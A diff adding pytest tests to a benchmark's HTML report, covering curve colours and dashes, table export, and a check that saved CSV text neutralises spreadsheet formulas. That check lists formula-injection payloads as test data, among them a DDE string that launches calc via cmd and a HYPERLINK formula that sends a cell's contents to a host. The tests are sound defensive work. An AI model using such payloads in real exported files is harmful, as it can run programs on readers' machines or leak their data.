@@ -1,7 +1,12 @@
 """Tests of the HTML report in a real browser: a click changes what is shown, and the page sends no request."""
 
+import csv
+import io
 import json
 import re
+import shutil
+import subprocess
+from importlib.resources import files
 from pathlib import Path
 
 import pytest
@@ -13,7 +18,9 @@ from bench.measure.metrics.table import METRICS
 from bench.report.html import write_report
 from bench.report.html.build import report_data
 from bench.results.reader import Run
+from bench.util.files import is_formula, no_formula
 
+NODE = shutil.which("node")
 NAMES = ["gensc", "linear", "jpeg-ldpc-16qam"]
 
 
@@ -84,6 +91,16 @@ def test_nobody_gains_in_the_page_by_losing_the_hard_pictures(tmp_path):
     assert (a, b, n) == ("mine", "other", 8) and mean < 0
 
 
+def test_no_two_systems_of_third_parties_share_colour_and_dash(tmp_path):
+    """The page draws no markers, so nothing else tells their curves apart."""
+    names = ["semantic-x", "ntscc", "vq-jscc", "diffjscc", "my-system", "deepsc", "rival", "his77"]
+    facts = {name: {"plugin": True, "colour": "#123456" if name in ("rival", "his77") else ""} for name in names}
+    folder = make_run(tmp_path / "run", [figure("fig4", names, snrs=[6.0])], lambda *_: 30.0, systems=facts)
+    shown = report_data([Run.open(folder)], 0)["systems"]
+    assert shown["rival"]["colour"] == shown["his77"]["colour"] == "#123456"
+    assert len({(shown[name]["colour"], tuple(shown[name]["dash"])) for name in names}) == len(names)
+
+
 def test_metrics_are_named_and_shown_as_their_records_say(run):
     shown = report_data([run], 24)["metrics"]
     for metric in METRICS:
@@ -98,6 +115,27 @@ def test_a_page_carries_no_more_pictures_than_asked(run):
     assert len(report_data([run], 24)["pictures"]["items"]) == 4
     none = report_data([run], picture_mib=0)["pictures"]
     assert len(none["items"]) <= 1 and none["left_out"] >= 3
+
+
+@pytest.mark.skipif(NODE is None, reason="no node on this machine (Debian: apt-get install nodejs)")
+def test_no_text_is_a_formula_in_a_table_that_the_page_saves():
+    """A label, a licence or a picture's name could start a program on the machine of a reader."""
+    formulas = ["=1+1", '=HYPERLINK("http://x/?a="&A1,"b")', "+A1", "-1+cmd|' /C calc'!A1", "@SUM(A1)", " =A1", "-"]
+    formulas += ["＝A1", "－A1", "a;=A1", "a；-A1"]
+    texts = [*formulas, "plain, with a comma", 'a "quote"', "two\nlines", "x\r=A1", "", "-3", "+1e3", "a=b"]
+    rows = [[text, None, -1.5, 7] for text in texts]
+    code = (files("bench.report.html") / "csv.js").read_text(encoding="utf-8")
+    code += f"process.stdout.write(csvText(['=head', 'b', 'c', 'd'], {json.dumps(rows)}))"
+    saved = subprocess.run([NODE, "-e", code], capture_output=True, check=True).stdout
+    read = list(csv.reader(io.StringIO(saved.decode(), newline="")))
+    assert read == [["'=head", "b", "c", "d"], *([no_formula(text), "", "-1.5", "7"] for text in texts)]
+    assert list(filter(is_formula, texts)) == formulas and not any(is_formula(cell) for row in read for cell in row)
+
+
+def test_the_page_saves_its_tables_by_that_function(page):
+    text = page.read_text(encoding="utf-8")
+    assert text.count("const csvText = (head, rows)") == 1 and "text/csv" in text.partition("csvText(head, rows);")[2]
+    assert len(re.findall(r"new Blob\(", text)) == 1
 
 
 @pytest.fixture(scope="module")
